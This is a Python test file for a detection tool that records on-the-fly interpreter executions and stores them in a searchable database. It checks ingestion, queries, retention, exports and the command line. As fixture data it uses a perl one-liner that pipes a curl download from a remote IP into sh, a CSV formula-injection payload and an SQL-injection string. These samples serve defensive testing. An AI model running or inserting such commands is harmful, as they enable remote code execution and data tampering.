"""What goes into the store comes out of it, once; queries find what they say; what is old goes."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import subprocess
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from msgspec import structs

from flycatcher.core.errors import FlycatcherError
from flycatcher.destination import Destination, SpoolSettings
from flycatcher.sinks.delivery.registry import transport_for
from flycatcher.sinks.delivery.spooled import Spooled
from flycatcher.sinks.formats.shared import Sharer
from flycatcher.sinks.message import Message, Unavailable, event_of
from flycatcher.sinks.store import migrations, retention, schema
from flycatcher.sinks.store.database import migrate, open_store, shown
from flycatcher.sinks.store.export import COLUMNS, export
from flycatcher.sinks.store.head import HEAD
from flycatcher.sinks.store.ingest import ingest, words_of
from flycatcher.sinks.store.language import Term, parse
from flycatcher.sinks.store.search import count, page, records
from tests.delivery.events import hostile, notice, record

if TYPE_CHECKING:
    from sqlalchemy.engine import Engine

    from flycatcher.sinks.message import Event

LOUD = 'system("curl -s http://198.51.100.7/x | sh")'
HERE = Path(__file__).parent
OLD = "2026-01-01T00:00:00.000000Z"


def seen(number: int, *argv: str, when: str = "", **context: str) -> Event:
    """Return one of many sightings."""
    made = record(*argv, **context)
    execution = dict(made["execution"], process={"pid": number})
    execution["fidelity"] = {
        "sensor": "ebpf",
        "time": when or f"2026-11-29T10:{number // 60:02}:{number % 60:02}.000000Z",
    }
    return event_of(made | {"execution": execution})


def some() -> list[Event]:
    return [
        seen(1, "perl", "-e", LOUD, host__name="ci-1", ci__system="github", ci__repository="acme/app", ci__job="build", environment="ci"),
        seen(2, "perl", "-e", LOUD, host__name="ci-2", environment="ci"),
        seen(3, "python3", "-c", "import base64; print(base64.b64decode('eA=='))", host__name="web-1", environment="production"),
        seen(4, "ruby", "-e", "puts 1", host__name="web-1", container__id="c" * 12, when=OLD),
        notice(),
    ]  # fmt: skip


def names(store: Engine, query: str) -> list[tuple[str, str]]:
    return [(row["host"], row["interpreter"]) for row in page(store, query).rows]


def test_importing_twice_changes_nothing(store: Engine) -> None:
    first, second = ingest(store, some()), ingest(store, some())
    assert (first.added, first.known, second.added, second.known) == (5, 0, 0, 5)
    with store.connect() as connection:
        rows = {
            table.name: connection.scalar(sa.select(sa.func.count()).select_from(table))
            for table in schema.metadata.sorted_tables
        }
        rows_of = connection.execute(sa.select(schema.detections.c.interpreter, schema.detections.c["count"]))
        counts = {name: times for name, times in rows_of}  # noqa: C416 - rows are no pairs to dict()
    assert counts == {"perl": 2, "python": 1, "ruby": 1}
    assert (rows["executions"], rows["snippets"], rows["hosts"], rows["jobs"], rows["notices"]) == (4, 3, 4, 1, 1)


def test_a_record_comes_back_whole(store: Engine) -> None:
    events = some()[:3]
    ingest(store, events)
    found = {found["execution"]["process"]["pid"]: found for found in records(store)}
    assert found == {
        event.record["execution"]["process"]["pid"]: json.loads(json.dumps(event.record)) for event in events
    }


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", ["web-1 python", "ci-2 perl", "ci-1 perl", "web-1 ruby"]),
        ("interpreter:perl", ["ci-2 perl", "ci-1 perl"]),
        ("interpreter:p*", ["web-1 python", "ci-2 perl", "ci-1 perl"]),
        ("interpreter:ruby,python", ["web-1 python", "web-1 ruby"]),
        ("host:ci-?", ["ci-2 perl", "ci-1 perl"]),
        ("-host:ci-*", ["web-1 python", "web-1 ruby"]),
        ("level>=medium", ["ci-2 perl", "ci-1 perl"]),
        ("level:none level<low", ["web-1 python", "web-1 ruby"]),
        ("score>0", ["ci-2 perl", "ci-1 perl"]),
        ("environment:production", ["web-1 python"]),
        ("repository:acme/* job:build", ["ci-1 perl"]),
        ("-repository:*", []),
        ("capability:network.*", ["ci-2 perl", "ci-1 perl"]),
        ("technique:T1059.006", ["web-1 python"]),
        ("technique:T1059", ["ci-2 perl", "ci-1 perl", "web-1 ruby"]),
        ("container:ccc*", ["web-1 ruby"]),
        ("since:2026-11-29T10:00:02Z", ["web-1 python", "ci-2 perl"]),
        ("until:2026-06-01", ["web-1 ruby"]),
        ('text~"base64"', ["web-1 python"]),
        ("b64deco", ["web-1 python"]),
        ('text~"curl -s"', ["ci-2 perl", "ci-1 perl"]),
        ("url", []),
        ("command~B64DECODE", ["web-1 python"]),
        ("vector:argument outcome:observed sensor:ebpf user:ci path:*perl", ["ci-2 perl", "ci-1 perl"]),
    ],
)
def test_queries_find_what_they_say(store: Engine, query: str, expected: list[str]) -> None:
    ingest(store, some())
    assert [" ".join(each) for each in names(store, query)] == expected
    assert count(store, query) == len(expected)


def test_pages_go_on_where_the_last_one_ended_even_at_one_moment(store: Engine) -> None:
    ingest(store, [seen(number, "perl", "-e", LOUD, when=OLD) for number in range(25)])
    found: list[str] = []
    after = ""
    for _ in range(9):
        rows, after = page(store, "", after=after, limit=7)
        found += [row["uid"] for row in rows]
        if not after:
            break
    assert (len(found), len(set(found))) == (25, 25)
    assert found == sorted(found, reverse=True)


def test_triage_keeps_every_word_and_the_last_one_counts(store: Engine) -> None:
    ingest(store, some())
    identity = some()[0].record["id"]
    with store.begin() as connection:
        for number, state in enumerate(["investigating", "accepted"]):
            connection.execute(
                sa.insert(schema.triage),
                {"fingerprint": identity, "state": state, "who": "a", "time": number, "why": "w"},
            )
    assert names(store, "state:accepted") == [("ci-2", "perl"), ("ci-1", "perl")]
    assert names(store, "state:investigating") == []
    assert names(store, "state:new") == [("web-1", "python"), ("web-1", "ruby")]


def test_old_sightings_go_and_the_worst_may_stay(store: Engine) -> None:
    long_ago = [seen(1, "perl", "-e", LOUD, when=OLD), seen(2, "ruby", "-e", "puts 2", when=OLD, host__name="gone")]
    ingest(store, [*long_ago, seen(3, "ruby", "-e", "puts 3", when="2126-01-01T00:00:00.000000Z")])
    assert retention.prune(store, retention.Kept(seconds=time.time() - 1_790_000_000, level="medium")) == 1
    assert count(store) == 2
    assert retention.prune(store, retention.Kept(seconds=time.time() - 1_790_000_000)) == 1
    assert [found["snippets"][0]["text"] for found in records(store)] == ["puts 3"]
    with store.connect() as connection:
        assert connection.scalar(sa.select(sa.func.count()).select_from(schema.snippets)) == 1
        assert list(connection.scalars(sa.select(schema.hosts.c.host))) == ["builder-7"]
    assert names(store, "puts") == [("builder-7", "ruby")]
    retention.vacuum(store)
    assert retention.size(store) > 0


def test_beyond_a_number_the_oldest_of_the_lowest_level_go(store: Engine) -> None:
    ingest(
        store, [seen(number, "ruby", "-e", "puts 1") for number in range(5)] + [seen(9, "perl", "-e", LOUD, when=OLD)]
    )
    assert retention.prune(store, retention.Kept(rows=3)) == 3
    assert [row["interpreter"] for row in page(store).rows] == ["ruby", "ruby", "perl"]


def test_exports_are_read_by_others(store: Engine) -> None:
    ingest(store, [*some(), hostile("=cmd|' /C calc'!A0")])
    out = io.BytesIO()
    assert export(store, "interpreter:perl", "jsonl", out) == 3
    assert {json.loads(line)["interpreter"] for line in out.getvalue().splitlines()} == {"perl"}
    out = io.BytesIO()
    assert export(store, "", "csv", out) == 5
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode())))
    assert tuple(rows[0]) == COLUMNS
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
    parquet = pytest.importorskip("pyarrow.parquet")
    out = io.BytesIO()
    export(store, "host:ci-*", "parquet", out)
    assert parquet.read_table(io.BytesIO(out.getvalue())).column("host").to_pylist() == ["ci-2", "ci-1"]


def test_hostile_texts_are_stored_and_found(store: Engine) -> None:
    text = "a\x00b \udcff'; DROP TABLE executions; -- %_ \u202e"
    ingest(store, [hostile(text)])
    [found] = records(store)
    assert found["snippets"][0]["text"] == "a\u2400b \\xff'; DROP TABLE executions; -- %_ \u202e"
    assert count(store, 'text~"drop table"') == 1
    assert count(store, 'host:"%"') == 0


FIELDS = st.sampled_from(["level", "score", "host", "text", "since", "state", "capability", "zzz", "id", ""])
SIGNS = st.sampled_from([":", "~", ">=", "<", "=", ""])
QUERIES = st.lists(st.tuples(st.sampled_from(["", "-"]), FIELDS, SIGNS, st.text(max_size=12)), max_size=4)


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(parts=QUERIES)
def test_any_query_is_answered_or_refused_with_a_reason(parts: list[tuple[str, str, str, str]], store: Engine) -> None:
    query = " ".join("".join(part) for part in parts)
    with contextlib.suppress(FlycatcherError):
        page(store, query)


def test_terms_are_read_with_quotes_lists_and_negation() -> None:
    assert parse('level>=high host:ci-*,web-1 -text~"a \\"b\\" c" loose') == [
        Term("level", ">=", ("high",)),
        Term("host", ":", ("ci-*", "web-1")),
        Term("text", "~", ('a "b" c',), negated=True),
        Term("text", "~", ("loose",)),
    ]
    for wrong, said in [
        ("hots:x", "no field 'hots'"),
        ("level>=bad", "levels are none"),
        ("host>=x", "no order"),
        ("since:soon", "since takes"),
    ]:
        with pytest.raises(FlycatcherError, match=said):
            parse(wrong)


def test_the_migrations_make_the_tables_that_the_schema_describes(store: Engine) -> None:
    from alembic.autogenerate import compare_metadata  # noqa: PLC0415
    from alembic.migration import MigrationContext  # noqa: PLC0415

    def ours(_: Any, name: str | None, kind: str, *__: Any) -> bool:
        search = kind == "table" and str(name).startswith(("snippet_search", "searched"))
        return not search and name != "ix_snippets_words"

    with store.connect() as connection:
        context = MigrationContext.configure(connection, opts={"include_object": ours, "compare_type": True})
        assert compare_metadata(context, schema.metadata) == []
    migrate(store)  # again: nothing to do
    from alembic.script import ScriptDirectory  # noqa: PLC0415

    assert ScriptDirectory(str(Path(migrations.__file__).parent)).get_current_head() == HEAD


def test_a_store_of_the_first_version_is_brought_up_to_date_with_what_is_in_it(tmp_path: Path) -> None:
    """The file was written by the first version; every later one opens it."""
    old = tmp_path / "store.db"
    old.write_bytes((HERE / "store-0001.db").read_bytes())
    engine = open_store(f"store://{old}")
    assert [(row["interpreter"], row["host"]) for row in page(engine, "level>=medium text~curl").rows] == [
        ("perl", "builder-7")
    ]
    engine.dispose()


def test_a_search_finds_what_is_left_after_a_part_has_gone_and_the_room_is_given_back(store: Engine) -> None:
    ingest(store, some())
    retention.prune(store, retention.Kept(rows=3))
    retention.vacuum(store)
    left = list(records(store))
    for each in left:
        word = next(iter(words_of(each["snippets"][0]["text"])))
        assert each["id"] in [row["fingerprint"] for row in page(store, f"text~{word}").rows]
    with store.connect() as connection:
        kept = connection.scalar(sa.select(sa.func.count()).select_from(schema.detection_snippets))
    assert (len(left), kept) == (3, len({each["id"] for each in left}))
    if store.dialect.name == "sqlite":
        with store.begin() as connection:
            connection.exec_driver_sql("INSERT INTO snippet_search(snippet_search, rank) VALUES ('integrity-check', 1)")


def test_a_store_is_kept_below_a_size_and_the_worst_stays(store: Engine) -> None:
    text = "".join(chr(33 + number * 7 % 90) for number in range(20_000))
    quiet = [
        event_of(record("perl", "-e", f"print '{number} {number * 7919:x}' # {text[number:]}")) for number in range(150)
    ]
    ingest(store, [*quiet, event_of(record("perl", "-e", LOUD))])
    full = retention.data(store)
    gone = retention.prune(store, retention.Kept(bytes=full * 9 // 10))
    assert 0 < gone < 150
    assert retention.data(store) <= full * 9 // 10
    assert page(store, "text~curl").rows
    assert retention.prune(store, retention.Kept(bytes=full * 9 // 10)) == 0
    assert retention.prune(store, retention.Kept(bytes=1)) == 151 - gone


def test_the_sink_writes_to_the_store_and_copies_change_nothing(address: str, tmp_path: Path) -> None:
    spooled = Spooled(str(tmp_path / "s.db"), [Destination(name="keep", to=address)], SpoolSettings(wait=30))
    spooled.open()
    for _ in range(2):
        spooled.write(record("perl", "-e", LOUD))
    spooled.deliver()
    spooled.close({"executions_seen": 2, "lost": 0, "detections": 2})
    engine = open_store(address)
    assert [row["interpreter"] for row in page(engine).rows] == ["perl"]
    engine.dispose()


def test_the_command_imports_a_report_and_searches_it(tmp_path: Path) -> None:
    report, store = tmp_path / "r.jsonl", f"store://{tmp_path}/store.db"
    sharer = Sharer()
    lines = [json.dumps(row) for event in some() for row in sharer.lines(event.record)]  # as --compact writes them
    report.write_text(
        "\n".join([*lines, '{"schema":"flycatcher.summary/1","summary":{"executions_seen":4,"lost":0,"detections":4}}'])
    )

    def flycatcher(*words: str) -> str:
        done = subprocess.run([sys.executable, "-m", "flycatcher", "store", *words, "--store", store], capture_output=True, text=True, check=False)  # fmt: skip
        return done.stdout + done.stderr

    assert (
        flycatcher("query")
        == f"flycatcher: {tmp_path}/store.db: there is no store here\n  hint: flycatcher store import FILE makes one\n"
    )
    assert flycatcher("import", str(report)) == f"{report}: 6 added, 0 known\n"
    assert flycatcher("import", str(report)) == f"{report}: 0 added, 6 known\n"
    assert flycatcher("query", "--count", "interpreter:perl") == "2\n"
    first, more = flycatcher("query", "--limit", "1", "level>=medium").splitlines()
    assert first.startswith("2026-11-29T10:00:02  ")
    assert " ci-2  code on the fly, perl argument -e: " in first
    assert more.startswith("more: --after 1795946402.0,")
    identity = some()[2].record["id"]
    assert flycatcher("triage", identity, "accepted", "--why", "ours", "--who", "me").startswith(
        f"{identity} is accepted: code on"
    )
    assert flycatcher("query", "--count", "state:accepted") == "1\n"
    assert "executions  4\n" in flycatcher("status")
    assert "what is to go?" in flycatcher("prune")
    assert "--keep-level needs --older-than" in flycatcher("prune", "--keep-level", "high", "--vacuum")
    assert flycatcher("prune", "--older-than", "2026-06-01", "--vacuum") == "1 sighting deleted\n"
    for name, beginning in (
        ("x.csv", b"time,host,"),
        ("x.parquet", b"PAR1"),
        ("x.jsonl", b'{"schema"'),
        ("x.txt", b'{"schema"'),
    ):
        assert flycatcher("export", "--output", f"{tmp_path}/{name}") == f"{tmp_path}/{name}: 3 sightings\n"
        assert (tmp_path / name).read_bytes().startswith(beginning), name
    assert flycatcher("prune", "--older-than", "0d") == "3 sightings deleted\n"


def test_what_a_database_cannot_hold_is_refused_and_what_it_cannot_do_now_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fails_with(kind: type[sa.exc.DBAPIError], said: str) -> None:
        def fail(*_: object) -> None:
            raise kind("", {}, ValueError(said))

        monkeypatch.setattr("flycatcher.sinks.store.ingest.ingest", fail)

    transport = transport_for(Destination(name="x", to=f"store://{tmp_path}/s.db"))
    messages = [Message(body=b"", content_type="", event=each) for each in some()[:2]]
    for kind in (sa.exc.DataError, sa.exc.IntegrityError):
        fails_with(kind, "too long\nmore")
        assert transport.send(messages) == {0: "too long", 1: "too long"}
    fails_with(sa.exc.OperationalError, "the server is away")
    with pytest.raises(Unavailable, match=r"^the server is away$"):
        transport.send(messages)
    transport.close()


def test_a_password_is_not_shown() -> None:
    assert shown("postgresql://fly:secret@db/x") == "postgresql://fly@db/x"
    with pytest.raises(FlycatcherError) as error:
        open_store("postgresql://fly:secret@127.0.0.1:9/x")
    assert "secret" not in str(error.value)


def test_a_grouped_alert_counts_as_often_as_it_stands_for(store: Engine) -> None:
    from flycatcher.sinks.message import Group  # noqa: PLC0415

    ingest(store, [seen(1), structs.replace(seen(2), group=Group(380, "a", "b"))])
    with store.connect() as connection:
        assert list(connection.scalars(sa.select(schema.detections.c["count"]))) == [380]


def test_a_crafted_record_breaks_nothing(store: Engine) -> None:
    base = record()
    crafted = [
        base | {"id": "x" * 99, "interpreter": "y" * 99, "shape": "z" * 99, "risk": {"score": "many", "level": "worst", "reasons": 7}},
        base | {"execution": {"context": {"host.name": "h" * 999}, "fidelity": {"time": "soon"}}},
        base | {"snippets": "none", "texts": None, "analyses": 5, "capabilities": ["c" * 999]},
        base | {"texts": [{"sha256": "s" * 99, "bytes": "b"}], "execution": {"argv": 5 * ["w"], "context": {"ci.job": "j" * 9999}}},
        {"schema": "flycatcher.notice/1", "kind": "k" * 99, "count": "c", "sensor": "s" * 99, "time": 5},
    ]  # fmt: skip
    assert ingest(store, map(event_of, crafted)).added == len(crafted)
    assert len(list(records(store))) == 4


@pytest.mark.parametrize("value", [None, 1, "x", True, 1.5, [], [1], [None], {"a": [1]}], ids=str)
def test_a_record_with_any_part_of_a_wrong_type_is_stored(store: Engine, value: object) -> None:
    base = record()
    crafted = [base | {name: value} for name in base if name != "schema"]
    crafted += [base | {"execution": base["execution"] | {name: value}} for name in base["execution"]]
    ingest(store, map(event_of, crafted))
    assert len(list(records(store))) == len({json.dumps(each, sort_keys=True) for each in crafted})


@pytest.mark.parametrize("name", ["", "a/b", "..", ".", "?x", "#", "a,b", "a\nb", "%2f", "'\"<", "é"])
def test_an_id_that_no_address_can_hold_becomes_one_that_can(store: Engine, name: str) -> None:
    ingest(store, [event_of(record() | {"id": name})])
    (row,) = page(store).rows
    assert re.fullmatch("[0-9a-f]{16}", row["fingerprint"])
    assert [each["id"] for each in records(store, f"id:{row['fingerprint']}")] == [name]


def test_a_store_that_a_newer_version_made_is_left_alone(store: Engine, address: str) -> None:
    with store.begin() as connection:
        connection.execute(sa.text("UPDATE alembic_version SET version_num = '0999'"))
    with pytest.raises(FlycatcherError, match=f"a newer version made this store .*'0999', known: {HEAD}"):
        open_store(address)


@pytest.mark.parametrize(
    "query", ["a " * 101, "host:a " * 1000, "host:" + ",".join(["*a"] * 101), "host:" + ",".join(["a"] * 1900)]
)
def test_a_query_that_a_database_would_not_take_is_refused(query: str) -> None:
    with pytest.raises(FlycatcherError, match=r"100 (terms|values) at most|4000 characters"):
        parse(query)


@pytest.mark.parametrize(
    "query", ["a " * 100, "-host:a* " * 100, "host:" + ",".join(["*a"] * 100), "state:new,x " * 100]
)
def test_a_query_at_its_bounds_is_answered(store: Engine, query: str) -> None:
    assert count(store, query) == 0
